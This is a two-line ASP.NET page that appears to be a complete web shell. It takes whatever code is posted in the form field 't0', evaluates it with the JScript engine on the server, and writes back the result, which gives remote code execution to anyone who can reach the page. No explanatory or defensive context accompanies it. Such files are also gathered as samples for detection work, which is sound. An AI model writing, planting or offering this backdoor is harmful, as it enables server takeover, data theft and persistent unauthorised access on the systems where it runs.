<%@ Page Language="C#" %>
<% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request.Form["t0"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>
